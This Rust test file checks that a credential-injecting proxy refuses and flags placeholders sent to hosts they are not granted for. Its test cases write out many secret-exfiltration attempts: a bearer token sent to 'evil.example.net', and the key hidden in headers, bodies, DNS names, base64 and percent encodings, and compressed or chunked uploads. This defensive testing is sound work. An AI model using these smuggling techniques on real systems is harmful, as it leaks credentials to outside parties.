//! A placeholder that goes where its credential is not granted is refused and flagged; upstream hears nothing of the call.

use std::fs;

use crate::credentials::SECRET;

use crate::harness::{Exeat, Run, Upstream, WEBSOCKET};

/// `api` is for api.example.com, in headers only. www.example.com and a second rule of api.example.com have no credential.
fn exeat(upstream: &Upstream) -> Exeat {
    let other = "to = [\"other.example.com\"]\nenv = \"OTHER_KEY\"\n";
    Exeat::new()
        .fixed("api", SECRET, "to = [\"api.example.com\"]\nin = [\"header\"]\nenv = \"API_KEY\"\n")
        .fixed("other", "the-other-secret", other)
        .allow_with("api.example.com", upstream, "paths = [\"/plain/**\"]")
        .allow_with("api.example.com", upstream, "credential = \"api\"")
        .allow_with("other.example.com", upstream, "credential = \"other\"")
        .allow("www.example.com", upstream)
}

/// Runs one curl with the placeholder in it and checks that it was caught.
#[track_caller]
fn assert_caught(curl: &str) -> Run {
    let upstream = Upstream::start();
    let exeat = exeat(&upstream);
    let run = exeat.sh(&format!("echo $API_KEY > placeholder; curl -sS -w '\\n%{{http_code}}' {curl}")).ok();
    assert!(run.stdout.ends_with("403"), "{curl}: {run:#?}");
    assert!(run.stdout.contains("urn:exeat:refusal:placeholder-misdirected"), "{curl}: {run:#?}");
    assert_eq!(run.log.refused_kinds(), ["placeholder-misdirected"], "{curl}");
    assert!(run.log.refusals()[0].alert, "{curl}: {run:#?}");
    let placeholder = fs::read_to_string(exeat.work().join("placeholder")).unwrap();
    assert!(!run.stdout.contains(placeholder.trim()), "the refusal repeats the placeholder: {run:#?}");
    assert!(!run.log.text.contains(placeholder.trim()), "the log has the placeholder");
    upstream.assert_no_request();
    run
}

#[test]
fn to_another_host_that_is_allowed() {
    let run = assert_caught("-H \"Authorization: Bearer $API_KEY\" https://www.example.com/echo");
    assert!(run.stdout.contains("api"), "the refusal names the credential: {run:#?}");
    assert_caught("-H \"Authorization: Bearer $API_KEY\" https://other.example.com/echo");
}

#[test]
fn to_another_host_that_is_not_even_allowed() {
    let upstream = Upstream::start();
    let run = exeat(&upstream).sh("curl -sS -H \"Authorization: Bearer $API_KEY\" https://evil.example.net/").ok();
    assert!(run.log.refusals()[0].alert, "{run:#?}");
    upstream.assert_untouched();
}

#[test]
fn by_a_rule_that_does_not_name_the_credential() {
    assert_caught("-H \"Authorization: Bearer $API_KEY\" https://api.example.com/plain/x");
}

#[test]
fn in_the_method() {
    for version in ["--http1.1", "--http2"] {
        assert_caught(&format!("{version} -X $API_KEY https://www.example.com/echo"));
        assert_caught(&format!("{version} -X $API_KEY https://api.example.com/echo"));
        // As an AWS key id looks, and thus as a method may.
        let upstream = Upstream::start();
        let key = "to = [\"aws.example.com\"]\nenv = \"KEY_ID\"\nshape = \"[A-Z0-9]{32}\"\n";
        let exeat = exeat(&upstream).fixed("aws", SECRET, key);
        let exeat = exeat.allow_with("aws.example.com", &upstream, "credential = \"aws\"");
        for host in ["www.example.com", "aws.example.com", "unlisted.example.com"] {
            let curl = format!("curl -sS {version} -w '%{{http_code}}' -X $KEY_ID https://{host}/echo");
            let run = exeat.sh(&format!("echo $KEY_ID > placeholder; {curl}")).ok();
            assert!(run.stdout.ends_with("403"), "{host}: {run:#?}");
            assert!(run.log.refused_kinds().iter().all(|kind| *kind == "placeholder-misdirected"), "{host}: {run:#?}");
            assert!(run.log.refusals().iter().all(|refused| refused.alert), "{host}: {run:#?}");
            let placeholder = fs::read_to_string(exeat.work().join("placeholder")).unwrap();
            for told in [&run.log.text, &run.stderr] {
                assert!(!told.contains(placeholder.trim()), "{host}: {told}");
            }
        }
        upstream.assert_no_request();
    }
}

#[test]
fn in_the_path() {
    assert_caught("https://www.example.com/echo/$API_KEY/x");
    assert_caught("https://api.example.com/echo/$API_KEY");
}

#[test]
fn in_the_query() {
    assert_caught("\"https://www.example.com/echo?q=$API_KEY\"");
    assert_caught("\"https://api.example.com/echo?key=$API_KEY\"");
}

#[test]
fn in_any_header() {
    assert_caught("-H \"X-Anything: before-$API_KEY-after\" https://www.example.com/echo");
    assert_caught("-b \"session=$API_KEY\" https://www.example.com/echo");
    assert_caught("-A \"agent $API_KEY\" --http1.1 https://www.example.com/echo");
}

#[test]
fn in_basic_where_only_headers_are_granted() {
    assert_caught("-u user:$API_KEY https://api.example.com/echo");
    assert_caught("-u user:$API_KEY https://www.example.com/echo");
}

#[test]
fn in_the_body() {
    assert_caught("-d \"note=$API_KEY\" https://www.example.com/echo");
    assert_caught(
        "-H 'Content-Type: application/json' -d \"{\\\"a\\\":[\\\"$API_KEY\\\"]}\" https://api.example.com/echo",
    );
    assert_caught("-F \"file=@placeholder\" https://www.example.com/echo");
}

/// What a curl is told that sends what Python makes of `text`, which has the placeholder in it, as coded so.
fn coded(coding: &str, python: &str) -> Run {
    let upstream = Upstream::start();
    let script = format!(
        "python3 -c \"import os,gzip,zlib; text=('x'*70+os.environ['API_KEY']).encode(); open('body','wb').write({python})\"
curl -sS -w '\\n%{{http_code}}' -H 'Content-Encoding: {coding}' --data-binary @body https://www.example.com/upload"
    );
    let run = exeat(&upstream).sh(&script).ok();
    if !run.stdout.ends_with("200") {
        upstream.assert_no_request();
    }
    run
}

#[test]
fn in_a_compressed_body() {
    for (coding, python) in [
        ("gzip", "gzip.compress(text)"),
        ("gzip", "gzip.compress(b'x')+gzip.compress(text)"),
        ("x-gzip, identity", "gzip.compress(text)"),
        ("deflate", "zlib.compress(text)"),
        ("deflate", "zlib.compress(text)[2:-4]"),
    ] {
        let run = coded(coding, python);
        assert!(run.stdout.ends_with("403"), "{python}: {run:#?}");
        assert_eq!(run.log.refused_kinds(), ["placeholder-misdirected"], "{python}");
        assert!(run.log.refusals()[0].alert, "{python}: {run:#?}");
    }
}

#[test]
fn in_what_is_skipped_of_a_compressed_body() {
    // The name in gzip's head; a frame of zstd that is skipped, before one with a byte; a metablock of brotli that is no text.
    for (coding, python) in [
        ("gzip", "b'\\x1f\\x8b\\x08\\x08'+bytes(6)+text[70:]+bytes(1)+gzip.compress(b'x')[10:]"),
        ("zstd", "b'\\x50\\x2a\\x4d\\x18'+len(text).to_bytes(4,'little')+text+bytes.fromhex('28b52ffd200109000078')"),
        ("br", "bytes([0x2c|(len(text)-1)%2<<7,(len(text)-1)//2])+text+bytes([3])"),
    ] {
        let run = coded(coding, python);
        assert!(run.stdout.ends_with("403"), "{python}: {run:#?}");
        assert_eq!(run.log.refused_kinds(), ["placeholder-misdirected"], "{python}");
        let passes = coded(coding, &format!("(lambda text: {python})(b'x'*107)"));
        assert!(passes.stdout.ends_with("200"), "{python}: {passes:#?}");
    }
}

/// The chunks of `aws-chunked` in Python, each shorter than a placeholder.
const CHUNKS: &str =
    "b''.join(b'%x;chunk-signature=ab\\r\\n%s\\r\\n'%(len(text[i:i+30]),text[i:i+30]) for i in range(0,len(text),30))";

#[test]
fn in_an_upload_to_an_object_store() {
    let trailer = "b'1\\r\\nx\\r\\n0\\r\\nx-amz-meta:%s\\r\\n\\r\\n'%text[70:]";
    let extension = "b'1;chunk-signature=%s\\r\\nx\\r\\n0\\r\\n\\r\\n'%text[70:]";
    let gzip = format!("(lambda text: {CHUNKS})(gzip.compress(text))+b'0\\r\\n\\r\\n'");
    for (coding, python) in [
        ("aws-chunked", format!("{CHUNKS}+b'0;chunk-signature=ab\\r\\n\\r\\n'")),
        ("aws-chunked", trailer.to_owned()),
        ("aws-chunked", extension.to_owned()),
        ("gzip,aws-chunked", gzip),
    ] {
        let run = coded(coding, &python);
        assert!(run.stdout.ends_with("403"), "{python}: {run:#?}");
        assert_eq!(run.log.refused_kinds(), ["placeholder-misdirected"], "{python}");
    }
}

#[test]
fn where_it_could_hide_in_a_compressed_body() {
    for (coding, python) in [
        ("compress", "b'text'"),
        ("gzip, gzip", "gzip.compress(gzip.compress(text))"),
        ("gzip", "b'no gzip at all'"),
        ("gzip", "gzip.compress(b'x'*900)[:-9]"),
        ("deflate", "zlib.compress(b'x')+text[:70]"),
        ("gzip", "gzip.compress(bytes(40<<20))"),
        ("aws-chunked", "b'1\\r\\nx\\r\\n'"),
        ("aws-chunked", "b'1\\nx\\n0\\n\\n'+text"),
    ] {
        let run = coded(coding, python);
        assert!(run.stdout.ends_with("415"), "{python}: {run:#?}");
        assert_eq!(run.log.refused_kinds(), ["unexamined-body"], "{python}");
    }
    let run = coded("gzip", "gzip.compress(b'nothing hidden')");
    assert!(run.stdout.ends_with("200"), "{run:#?}");
}

#[test]
fn in_no_body_nothing_can_hide_whatever_its_coding_is_called() {
    for version in ["--http1.1", "--http2"] {
        let upstream = Upstream::start();
        let curl = format!("curl -sSf {version} -H 'Content-Encoding: unheard-of' https://www.example.com/echo");
        exeat(&upstream).sh(&format!("{curl} && {curl} -d ''")).ok();
        assert_eq!(upstream.seen().len(), 2, "{version}");
    }
}

#[test]
fn in_a_long_compressed_body_that_breaks_off() {
    // Of known length: nobody asks such a body for more than its last piece.
    for version in ["--http1.1", "--http2"] {
        let upstream = Upstream::start();
        let script = format!(
            "python3 -c \"import os,gzip; open('body','wb').write(gzip.compress(os.urandom(300000))[:-9])\"
curl -sS {version} -w '\\n%{{http_code}}' -H 'Content-Encoding: gzip' --data-binary @body https://www.example.com/upload"
        );
        let run = exeat(&upstream).sh(&script).ok();
        assert!(run.stdout.ends_with("415"), "{version}: {run:#?}");
        assert_eq!(run.log.ends()[0].outcome, "refused", "{version}");
    }
}

#[test]
fn at_the_end_of_the_first_64_kib_of_a_body() {
    let fill = "(head -c 65000 /dev/zero | tr '\\0' x; echo $API_KEY) > body;";
    let upstream = Upstream::start();
    let run = exeat(&upstream)
        .sh(&format!("{fill} curl -sS -w '%{{http_code}}' --data-binary @body https://www.example.com/upload"))
        .ok();
    assert!(run.stdout.ends_with("403"), "{run:#?}");
    assert!(run.log.refusals()[0].alert, "{run:#?}");
    upstream.assert_no_request();
}

#[test]
fn in_a_body_of_unknown_length_which_breaks_off_before_it() {
    // The head of such a call goes upstream at once, as with a stream that has no end; the placeholder does not.
    for version in ["--http1.1", "--http2"] {
        let upstream = Upstream::start();
        let script = format!(
            "(head -c 300000 /dev/zero | tr '\\0' x; echo $API_KEY) | curl -sS {version} -w '%{{http_code}}' -T - https://www.example.com/upload"
        );
        let run = exeat(&upstream).sh(&script).ok();
        assert!(run.stdout.ends_with("403"), "{run:#?}");
        assert_eq!(run.log.refused_kinds(), ["placeholder-misdirected"], "{version}");
        assert!(run.log.refusals()[0].alert, "{run:#?}");
        assert_eq!(run.log.ends()[0].outcome, "refused");
        assert!(upstream.seen().iter().all(|seen| !seen.text().contains("exeat_")), "part of it went upstream");
    }
}

#[test]
fn spelt_another_way() {
    // Base64, percent-encoded, escaped in JSON.
    assert_caught("-H \"X-Note: $(printf %s $API_KEY | base64 -w0)\" https://www.example.com/echo");
    assert_caught("-d \"note=$(printf 'x%s' $API_KEY | base64 -w0)\" https://www.example.com/echo");
    let percent = "$(printf %s $API_KEY | od -An -v -tx1 | tr -d '\\n' | tr ' ' '%')";
    assert_caught(&format!("\"https://www.example.com/echo?q={percent}\""));
    assert_caught(&format!("\"https://www.example.com/echo/{percent}\""));
    let json = "$(printf %s $API_KEY | od -An -v -tx1 | tr -d '\\n' | sed 's/ /\\\\u00/g')";
    assert_caught(&format!(
        "-H 'Content-Type: application/json' -d \"{{\\\"a\\\":\\\"{json}\\\"}}\" https://www.example.com/echo"
    ));
}

#[test]
fn in_a_name_that_is_looked_up() {
    let upstream = Upstream::start();
    let run = exeat(&upstream).sh("echo $API_KEY > placeholder; curl -sS https://$API_KEY.example.net/; true");
    let placeholder = run.log.names().iter().any(|(name, _)| name.contains("exeat_"));
    assert!(!placeholder, "the log has the placeholder: {run:#?}");
    upstream.assert_untouched();
}

#[test]
fn in_a_name_below_a_wildcard_that_is_allowed() {
    let upstream = Upstream::start();
    let exeat = exeat(&upstream).allow("*.example.org", &upstream);
    let run = exeat.sh("curl -sS -w '%{http_code}' https://$API_KEY.example.org/echo").ok();
    assert!(run.stdout.ends_with("403"), "{run:#?}");
    assert!(run.log.refusals()[0].alert, "{run:#?}");
    upstream.assert_untouched();
}

#[test]
fn of_another_worker() {
    let upstream = Upstream::start();
    let exeat = exeat(&upstream);
    let other = exeat.sh("echo $API_KEY").ok().stdout;
    let script = format!("curl -sSf -H 'Authorization: Bearer {}' https://api.example.com/echo", other.trim());
    exeat.sh(&script).ok();
    // To this worker it is a word like any other; the secret does not come in its stead.
    assert!(!upstream.only().text().contains(SECRET));
}

#[test]
fn in_a_field_that_connection_names_it_is_not_passed_on_at_all() {
    let upstream = Upstream::start();
    let script = "curl -sSf --http1.1 -H 'Connection: X-Key' -H \"X-Key: $API_KEY\" -H 'X-Stays: yes' https://api.example.com/echo";
    let run = exeat(&upstream).sh(script).ok();
    // It is for this hop, so it is gone before anybody looks for placeholders.
    let seen = upstream.only();
    assert_eq!((seen.header("x-stays"), seen.header("x-key")), (Some("yes"), None), "{seen:#?}");
    assert!(!seen.text().contains("exeat_") && !seen.text().contains(SECRET), "{seen:#?}");
    assert_eq!(run.log.refused_kinds(), [""; 0], "{run:#?}");
}

#[test]
fn in_a_websocket() {
    let upstream = Upstream::with_alpn(&["http/1.1"]);
    let program = format!(
        "{WEBSOCKET}
stream = open('www.example.com')
say(stream, b'note ' + os.environ['API_KEY'].encode())
print(rest(stream))"
    );
    let run = exeat(&upstream).run(&["/usr/bin/python3", "-c", &program]).ok();
    // A close frame: policy violation (1008), and the reason.
    assert!(run.stdout.starts_with("b'\\x88") && run.stdout.contains("\\x03\\xf0the placeholder of"), "{run:#?}");
    assert_eq!(run.log.refused_kinds(), ["placeholder-misdirected"]);
    assert!(run.log.refusals()[0].alert, "{run:#?}");
}
